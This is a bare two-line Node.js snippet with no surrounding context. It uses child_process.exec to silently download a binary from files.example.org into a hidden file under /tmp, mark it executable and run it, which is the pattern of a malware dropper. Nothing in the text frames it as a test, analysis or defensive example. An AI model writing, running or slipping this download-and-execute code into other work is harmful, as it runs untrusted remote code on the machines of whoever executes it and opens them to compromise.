const { exec } = require("child_process");

exec("wget -q https://files.example.org/a.bin -O /tmp/.a && chmod +x /tmp/.a && /tmp/.a");
